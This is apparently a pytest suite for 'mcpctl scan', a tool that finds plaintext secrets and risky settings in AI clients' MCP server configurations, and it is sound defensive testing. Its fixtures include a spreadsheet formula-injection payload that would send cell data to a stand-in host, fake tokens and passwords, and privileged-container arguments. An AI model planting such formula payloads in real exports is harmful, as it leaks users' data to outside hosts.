"""`mcpctl scan` on fixture homes for macOS, Linux and Windows: exact findings, references never flagged,
redaction, JSON schema and SARIF 2.1.0 validity, CSV/Markdown, --fail-on, robustness, read-only."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.helpers import run_cli
from tests.unit.scan_homes import SHARED_TOKEN, build_home, token_for
from toolhive_py.clients.catalog import CLIENTS
from toolhive_py.config import Paths
from toolhive_py.scan.scanner import ScanOptions, run_scan

SARIF_SCHEMA = Path(__file__).parents[1] / "fixtures" / "scan" / "sarif-schema-2.1.0.json"


def scan_json(home: Path, *extra: str) -> dict[str, Any]:
    result = run_cli("scan", "--home", str(home), "--format", "json", *extra)
    assert result.exit_code == 0, result.stderr
    report: dict[str, Any] = json.loads(result.stdout)
    return report


def tree_digest(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        digest.update(str(path).encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


@pytest.mark.parametrize("os_name", ["macos", "linux", "windows"])
def test_exact_findings_on_a_home_for_each_os(tmp_path: Path, os_name: str) -> None:
    home, expected = build_home(tmp_path, os_name)  # type: ignore[arg-type]
    before = tree_digest(home)
    report = scan_json(home)
    found = {(f["client"], f["name"], s["provider"], s["location"]) for f in report["findings"] for s in f["secrets"]}
    assert found == expected
    clients = {f["client"] for f in report["findings"]}
    assert clients == {c.id for c in CLIENTS}, "every catalog client's config was found"
    careful = [f for f in report["findings"] if f["name"] == "careful"]
    assert len(careful) == len(CLIENTS)
    assert all(f["secrets"] == [] for f in careful), "reference forms are never findings"
    assert report["errors"] == []
    for finding in report["findings"]:  # every entry is located, whatever the format (JSON, TOML, YAML)
        declared = Path(finding["config_path"]).read_text(encoding="utf-8-sig").splitlines()[finding["line"] - 1]
        assert finding["name"] in declared, (finding["client"], finding["line"], declared)
    assert tree_digest(home) == before, "a scan never modifies anything"


def test_output_is_redacted_and_one_secret_has_one_fingerprint(tmp_path: Path) -> None:
    home, _ = build_home(tmp_path, "linux")
    for fmt in ("json", "sarif", "csv", "markdown", "table"):
        result = run_cli("scan", "--home", str(home), "--format", fmt)
        assert result.exit_code == 0
        for index in range(len(CLIENTS)):
            assert token_for(index) not in result.stdout + result.stderr, fmt
    report = scan_json(home)
    shared = [s for f in report["findings"] for s in f["secrets"] if s["redacted"] == "ghp_…0000"]
    assert len(shared) == 2
    assert len({s["fingerprint"] for s in shared}) == 1
    assert SHARED_TOKEN not in json.dumps(report)


def test_risk_levels_and_reasons(tmp_path: Path) -> None:
    home, _ = build_home(tmp_path, "linux")
    findings = {(f["client"], f["name"]): f for f in scan_json(home)["findings"]}
    leaky = findings[("cursor", "leaky")]
    assert leaky["level"] == "critical"
    assert {r["code"] for r in leaky["reasons"]} >= {"plaintext-secret", "unvetted"}
    careful = findings[("cursor", "careful")]
    assert careful["pinned"] is True
    assert careful["package"] == "@modelcontextprotocol/server-github"
    assert careful["level"] == "medium"
    unpinned = findings[("claude-desktop", "leaky")]
    assert "unpinned: @modelcontextprotocol/server-github (no exact version)" in \
        [r["message"] for r in unpinned["reasons"]]


def test_json_matches_the_shipped_schema_and_sarif_is_valid_2_1_0(tmp_path: Path) -> None:
    home, _ = build_home(tmp_path, "macos")
    schema = json.loads(resources.files("toolhive_py.scan").joinpath("scan-report.schema.json").read_text())
    jsonschema.validate(scan_json(home), schema)
    sarif = json.loads(run_cli("scan", "--home", str(home), "--format", "sarif").stdout)
    jsonschema.validate(sarif, json.loads(SARIF_SCHEMA.read_text()))
    regions = [r["locations"][0]["physicalLocation"].get("region") for r in sarif["runs"][0]["results"]]
    assert regions
    assert all(region and region["startLine"] >= 1 for region in regions), "GitHub code scanning needs a line"
    assert {r["ruleId"] for r in sarif["runs"][0]["results"]} >= {"plaintext-secret", "unvetted"}


def test_csv_markdown_and_output_file(tmp_path: Path) -> None:
    home, expected = build_home(tmp_path, "windows")
    out = tmp_path / "report.csv"
    assert run_cli("scan", "--home", str(home), "--format", "csv", "--output", str(out)).exit_code == 0
    rows = out.read_text().splitlines()
    assert rows[0].startswith("level,status,client")
    assert len(rows) == 1 + 2 * len(CLIENTS)
    markdown = run_cli("scan", "--home", str(home), "--format", "markdown").stdout
    assert markdown.startswith("# MCP inventory of ")


def test_fail_on_sets_the_exit_code(tmp_path: Path) -> None:
    home, _ = build_home(tmp_path, "linux")
    assert run_cli("scan", "--home", str(home), "--format", "json", "--fail-on", "critical").exit_code == 1
    empty = tmp_path / "empty-home"
    empty.mkdir()
    assert run_cli("scan", "--home", str(empty), "--format", "json", "--fail-on", "info").exit_code == 0
    assert run_cli("scan", "--home", str(empty), "--fail-on", "bogus").exit_code == 2


def test_bad_files_are_scan_errors_never_a_crash(tmp_path: Path) -> None:
    home = tmp_path / "home"
    cursor = home / ".cursor" / "mcp.json"
    cursor.parent.mkdir(parents=True)
    cursor.write_bytes(os.urandom(4096))  # binary garbage
    (home / ".gemini").mkdir()
    (home / ".gemini" / "settings.json").write_text("")  # empty
    (home / ".codeium" / "windsurf").mkdir(parents=True)
    loop = home / ".codeium" / "windsurf" / "mcp_config.json"
    loop.symlink_to(home / ".codeium" / "windsurf" / "other.json")
    (home / ".codeium" / "windsurf" / "other.json").symlink_to(loop)  # a symlink loop
    (home / ".kiro" / "settings").mkdir(parents=True)
    (home / ".kiro" / "settings" / "mcp.json").write_bytes(b"{" + b'"a": "' + b"x" * (17 * 1024 * 1024) + b'"}')
    lmstudio = home / ".lmstudio" / "mcp.json"
    lmstudio.parent.mkdir()
    lmstudio.write_text('{"mcpServers": {"ok": {"command": "npx", "args": ["-y", "pkg@1.0.0"]}}}')
    unreadable = home / ".continue" / "config.yaml"
    unreadable.parent.mkdir()
    unreadable.write_text("mcpServers: []\n")
    unreadable.chmod(0)

    report = run_scan(Paths.from_env(), ScanOptions(home=home, processes=False, containers=False,
                                                    managed_root=None))
    errors = {Path(e.path).name: e.message for e in report.errors}
    assert set(errors) >= {"mcp.json", "settings.json", "mcp_config.json"}
    assert "empty file" in errors["settings.json"]
    assert [f.name for f in report.findings] == ["ok"], "the good file is still scanned"


def test_unreadable_file_as_an_unprivileged_user() -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to drop to another user")
    root = Path(tempfile.mkdtemp(prefix="mcpctl-scan-"))  # pytest's tmp dirs are not traversable by others
    root.chmod(0o755)
    home = root / "home"
    config = home / ".cursor" / "mcp.json"
    config.parent.mkdir(parents=True)
    config.write_text('{"mcpServers": {}}')
    config.chmod(0)
    for directory in (home, config.parent):
        directory.chmod(0o755)
    code = ("import sys; from pathlib import Path; from toolhive_py.scan.discovery import discover; "
            f"_, errors = discover(Path({str(home)!r}), managed_root=None); "
            "print([(e.path, e.message) for e in errors])")
    result = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c",
                             code], capture_output=True, text=True, check=False,
                            env={**os.environ, "HOME": str(root), "PYTHONPATH": str(Path.cwd())})
    shutil.rmtree(root)
    assert result.returncode == 0, result.stderr
    assert "Permission denied" in result.stdout


def test_project_dirs_are_searched_with_excludes(tmp_path: Path) -> None:
    repo = tmp_path / "src" / "app"
    (repo / ".vscode").mkdir(parents=True)
    (repo / ".vscode" / "mcp.json").write_text('{"servers": {"db": {"type": "stdio", "command": "npx", '
                                                '"args": ["-y", "mcp-db@1.0.0"], "env": {"DB_PASSWORD": '
                                                '"Xq9!vL2#pR7wZ4tB"}}}}')
    hidden = repo / "node_modules" / "pkg"
    hidden.mkdir(parents=True)
    (hidden / ".mcp.json").write_text('{"mcpServers": {"vendored": {"command": "x"}}}')
    home = tmp_path / "empty-home"
    home.mkdir()
    before = tree_digest(tmp_path / "src")
    report = scan_json(home, "--project-dir", str(tmp_path / "src"))
    assert tree_digest(tmp_path / "src") == before, "a scan never modifies a project tree"
    assert [(f["client"], f["name"]) for f in report["findings"]] == [("vscode", "db")]
    assert report["findings"][0]["secrets"][0]["provider"] == "high-entropy"
    assert report["findings"][0]["scope"] == f"project ({repo})"


@pytest.mark.parametrize(("threshold", "code"), [("critical", 0), ("high", 0), ("medium", 1), ("low", 1), ("info", 1)])
def test_fail_on_compares_against_the_worst_finding(tmp_path: Path, threshold: str, code: int) -> None:
    home = tmp_path / "scanned"
    (home / ".cursor").mkdir(parents=True)
    (home / ".cursor" / "mcp.json").write_text('{"mcpServers": {"notes": {"command": "npx", "args": '
                                               '["-y", "mcp-notes@1.2.3"]}}}')  # pinned, unvetted: medium
    for extra in ((), ("--json",), ("--format", "sarif")):
        assert run_cli("scan", "--home", str(home), "--fail-on", threshold, *extra).exit_code == code, extra


def test_each_risk_rule_fires_and_renders_in_sarif(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    (home / ".cursor").mkdir(parents=True)
    (home / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": {
        "plain-http": {"url": "http://mcp.example.com/mcp"},
        "loopback-http": {"url": "http://127.0.0.1:8080/mcp"},
        "privileged": {"command": "docker", "args": ["run", "-i", "--privileged", "mcp/tool:1.0.0"]},
        "host-pid": {"command": "podman", "args": ["run", "-i", "--pid", "host", "mcp/tool:1.0.0"]},
        "db-host": {"command": "docker", "args": ["run", "-i", "mcp/db:1.0.0", "--db", "host"]},
        "everything": {"command": "npx", "args": ["-y", "mcp-files@latest", str(home)]},
    }}))
    report = scan_json(home)
    codes = {f["name"]: sorted(r["code"] for r in f["reasons"]) for f in report["findings"]}
    assert codes == {
        "plain-http": ["insecure-remote", "unvetted"],
        "loopback-http": ["unvetted"],
        "privileged": ["privileged-container", "unvetted"],
        "host-pid": ["privileged-container", "unvetted"],
        "db-host": ["unvetted"],
        "everything": ["broad-filesystem", "unpinned", "unvetted"],
    }
    levels = {f["name"]: f["level"] for f in report["findings"]}
    assert levels == {"plain-http": "high", "loopback-http": "medium", "privileged": "high", "host-pid": "high",
                      "db-host": "medium", "everything": "medium"}
    sarif = json.loads(run_cli("scan", "--home", str(home), "--format", "sarif").stdout)
    jsonschema.validate(sarif, json.loads(SARIF_SCHEMA.read_text()))
    rules = [rule["id"] for rule in sarif["runs"][0]["tool"]["driver"]["rules"]]
    for result in sarif["runs"][0]["results"]:
        assert rules[result["ruleIndex"]] == result["ruleId"]


def test_json_envelope_does_not_silently_drop_other_output_options(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    home.mkdir()
    envelope = run_cli("scan", "--home", str(home), "--json")
    assert envelope.exit_code == 0
    assert (envelope.json()["command"], envelope.json()["data"]["schema_version"]) == ("scan", 1)
    for extra in (("--output", str(tmp_path / "r.json")), ("--format", "sarif")):
        result = run_cli("scan", "--home", str(home), "--json", *extra)
        assert result.exit_code == 2
        assert result.json()["errors"][0]["code"] == "usage"
    assert not (tmp_path / "r.json").exists()


def test_zed_nested_command_shape_is_read_like_the_flat_one(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    (home / ".config" / "zed").mkdir(parents=True)
    token = "ghp_" + "Zq7" * 12
    command = {"path": "npx", "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
               "env": {"GITHUB_TOKEN": token}}
    (home / ".config" / "zed" / "settings.json").write_text(
        "// Zed\n" + json.dumps({"theme": "One Dark", "context_servers": {"github": {"source": "custom",
                                                                                    "command": command}}}))
    [finding] = scan_json(home)["findings"]
    assert (finding["client"], finding["kind"], finding["package"], finding["pinned"]) == (
        "zed", "npm", "@modelcontextprotocol/server-github", True)
    assert [(s["provider"], s["location"]) for s in finding["secrets"]] == [("github-token", "env:GITHUB_TOKEN")]


def test_env_files_named_with_workspace_folder_are_read(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".vscode").mkdir(parents=True)
    (repo / ".env").write_text("# local\nexport OPENAI_API_KEY='sk-proj-" + "Ab1_" * 8 + "'\n")
    (repo / ".vscode" / "mcp.json").write_text(json.dumps({"servers": {
        "ai": {"type": "stdio", "command": "uvx", "args": ["mcp-ai==1.0"], "envFile": "${workspaceFolder}/.env"},
        "other": {"type": "stdio", "command": "uvx", "args": ["mcp-x==1.0"], "envFile": "${input:envfile}"},
    }}))
    empty = tmp_path / "scanned"
    empty.mkdir()
    report = scan_json(empty, "--project-dir", str(repo))
    assert report["errors"] == [], "a variable only VS Code can resolve is no scan error"
    secrets = {f["name"]: [(s["provider"], s["location"]) for s in f["secrets"]] for f in report["findings"]}
    assert secrets == {"ai": [("openai-api-key", f"file:{repo / '.env'}:OPENAI_API_KEY")], "other": []}


def test_table_groups_by_client_and_file_and_prints_names_verbatim(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    (home / ".cursor").mkdir(parents=True)
    (home / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": {
        "[bold]odd[/bold] | <b>x</b>\nline": {"command": "npx", "args": ["-y", "mcp-odd@1.0.0"]}}}))
    (home / ".cursor" / "side.env").write_text("API_KEY=Xq9!vL2#pR7wZ4tBk8Lm3\n")
    (home / ".gemini").mkdir()
    (home / ".gemini" / "settings.json").write_text(json.dumps({"mcpServers": {
        "g": {"command": "npx", "args": ["-y", "mcp-g@1.0.0"], "envFile": "../.cursor/side.env"}}}))
    result = run_cli("scan", "--home", str(home))
    assert result.exit_code == 0
    assert "cursor · user · ~/.cursor/mcp.json" in result.stdout
    assert "gemini · user · ~/.gemini/settings.json" in result.stdout
    assert "[bold]odd[/bold] | <b>x</b>" in result.stdout, "names from scanned files are not rich markup"
    assert "side file side.env:API_KEY" in result.stdout
    markdown = run_cli("scan", "--home", str(home), "--format", "markdown").stdout
    rows = [line for line in markdown.splitlines() if line.startswith("| ") and "odd" in line]
    assert len(rows) == 1
    assert rows[0].count(" | ") == 5, "one row, six cells"


def test_csv_cells_from_scanned_files_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    (home / ".cursor").mkdir(parents=True)
    (home / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": {
        '=HYPERLINK("http://x.example/?"&A1,"ok")': {"command": "npx", "args": ["-y", "@scope/mcp@1.0.0"]}}}))
    rows = list(csv.reader(io.StringIO(run_cli("scan", "--home", str(home), "--format", "csv").stdout)))
    assert rows[1][4] == '\'=HYPERLINK("http://x.example/?"&A1,"ok")'
    assert rows[1][8] == "@scope/mcp", "a scoped npm name stays as it is"


def test_a_named_engine_that_does_not_answer_is_a_scan_error(tmp_path: Path) -> None:
    missing = f"unix://{tmp_path / 'no-engine.sock'}"
    report = json.loads(run_cli("scan", "--format", "json", "--no-processes", "--runtime-socket", missing).stdout)
    assert [e["path"] for e in report["errors"]] == [missing]
    assert "cannot connect" in report["errors"][0]["message"]


def test_the_wheel_ships_the_report_schema(tmp_path: Path) -> None:
    import zipfile

    from hatchling.builders.wheel import WheelBuilder

    root = Path(__file__).resolve().parents[2]
    [wheel] = list(WheelBuilder(str(root)).build(directory=str(tmp_path), versions=["standard"]))
    with zipfile.ZipFile(wheel) as archive:
        shipped = json.loads(archive.read("toolhive_py/scan/scan-report.schema.json"))
    assert shipped == json.loads((root / "toolhive_py" / "scan" / "scan-report.schema.json").read_text())


@pytest.mark.timeout(20)
def test_side_files_that_never_end_are_scan_errors(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    (home / ".cursor").mkdir(parents=True)
    fifo = home / ".cursor" / "pipe.env"
    os.mkfifo(fifo)
    (home / ".cursor" / "big.env").write_bytes(b"A=" + b"x" * (2 * 1024 * 1024))
    (home / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": {
        name: {"command": "npx", "args": ["-y", "mcp-x@1.0.0"], "envFile": target}
        for name, target in (("zero", "/dev/zero"), ("pipe", "pipe.env"), ("big", "big.env"), ("gone", "gone.env"))}}))
    report = scan_json(home)
    messages = {Path(e["path"]).name: e["message"] for e in report["errors"]}
    assert set(messages) == {"zero", "pipe.env", "big.env", "gone.env"}
    assert "not a regular file" in messages["zero"]
    assert "not a regular file" in messages["pipe.env"]
    assert "larger than" in messages["big.env"]
    assert "no such file" in messages["gone.env"]
    assert len(report["findings"]) == 4, "the entries themselves are still reported"


def test_connection_string_passwords_are_found_in_args_env_headers_side_files_and_urls(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    (home / ".cursor").mkdir(parents=True)
    (home / ".cursor" / "db.env").write_text("REDIS_URL=redis://:Rd1spw@cache:6379\n")
    (home / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": {
        "pg": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-postgres@0.6.2",
                                          "postgresql://app:Pg1pass@db/app"]},
        "env": {"command": "uvx", "args": ["mcp-db==1.0"], "envFile": "db.env",
                "env": {"DATABASE_URL": "postgres://u:Env1pw@db/app", "MONGO_URI": "mongodb+srv://m:Mg1pw@c.net/x"}},
        "remote": {"url": "https://bot:Url1pw@mcp.example.com/mcp",
                   "headers": {"X-Upstream": "amqp://guest:Hd1pw@rabbit/"}},
    }}))
    result = run_cli("scan", "--home", str(home), "--format", "json")
    for password in ("Pg1pass", "Env1pw", "Mg1pw", "Rd1spw", "Url1pw", "Hd1pw"):
        assert password not in result.stdout, "passwords are redacted"
    secrets = {f["name"]: sorted((s["provider"], s["location"]) for s in f["secrets"])
               for f in json.loads(result.stdout)["findings"]}
    side = home / ".cursor" / "db.env"
    assert secrets == {
        "pg": [("connection-string-password", "arg:2")],
        "env": [("connection-string-password", "env:DATABASE_URL"), ("connection-string-password", "env:MONGO_URI"),
                ("connection-string-password", f"file:{side}:REDIS_URL")],
        "remote": [("connection-string-password", "header:X-Upstream"), ("connection-string-password", "url-userinfo")],
    }


def test_a_home_that_does_not_exist_is_an_error_not_a_clean_report(tmp_path: Path) -> None:
    result = run_cli("scan", "--home", str(tmp_path / "nonexistent"), "--fail-on", "info")
    assert result.exit_code == 2, result.stdout
    assert "is not a directory" in result.stderr
    envelope = run_cli("scan", "--home", str(tmp_path / "nonexistent"), "--json")
    assert envelope.exit_code == 2
    assert envelope.json()["errors"][0]["code"] == "usage"


def test_a_scan_that_could_not_read_everything_says_so_and_is_not_clean(tmp_path: Path) -> None:
    home = tmp_path / "scanned"
    (home / ".cursor").mkdir(parents=True)
    (home / ".cursor" / "mcp.json").write_text("")  # an error, and no finding
    report = scan_json(home)
    assert (report["findings"], report["summary"]["errors"], report["summary"]["complete"]) == ([], 1, False)
    result = run_cli("scan", "--home", str(home), "--fail-on", "info")
    assert result.exit_code == 8, "nothing found where it looked, but it did not look everywhere"
    assert "Incomplete" in result.stdout
    assert "**Incomplete:** 1 places could not be read" in run_cli("scan", "--home", str(home), "--format",
                                                                    "markdown").stdout
    (home / ".cursor" / "mcp.json").write_text('{"mcpServers": {}}')
    assert scan_json(home)["summary"]["complete"] is True
    assert run_cli("scan", "--home", str(home), "--fail-on", "info").exit_code == 0


def test_unreadable_directories_are_counted_and_reported_once(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to drop to another user")
    root = Path(tempfile.mkdtemp(prefix="mcpctl-scan-"))  # pytest's tmp dirs are not traversable by others
    root.chmod(0o755)
    home, tree = root / "home", root / "src"
    for directory in (home / ".cursor", home / ".config" / "Code" / "User" / "profiles", tree / "repo" / "secret"):
        directory.mkdir(parents=True)
    (home / ".cursor" / "mcp.json").write_text('{"mcpServers": {"hidden": {"command": "npx"}}}')
    for directory in (root, home, tree, tree / "repo", home / ".config", home / ".config" / "Code",
                      home / ".config" / "Code" / "User"):
        directory.chmod(0o755)
    for blocked in (home / ".cursor", home / ".config" / "Code" / "User" / "profiles", tree / "repo" / "secret"):
        blocked.chmod(0o700)  # root's: another user can neither list nor enter it
    code = ("import json; from pathlib import Path; from toolhive_py.scan.discovery import discover; "
            f"_, errors = discover(Path({str(home)!r}), [Path({str(tree)!r})], managed_root=None); "
            "print(json.dumps([(e.path, e.message) for e in errors]))")
    result = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c",
                             code], capture_output=True, text=True, check=False,
                            env={**os.environ, "HOME": str(root), "PYTHONPATH": str(Path.cwd())})
    shutil.rmtree(root)
    assert result.returncode == 0, result.stderr
    errors = json.loads(result.stdout)
    assert sorted(path for path, _ in errors) == sorted(str(p) for p in (
        home / ".cursor", home / ".config" / "Code" / "User" / "profiles", tree / "repo" / "secret"))
    assert all("directory not readable: Permission denied" in message for _, message in errors)
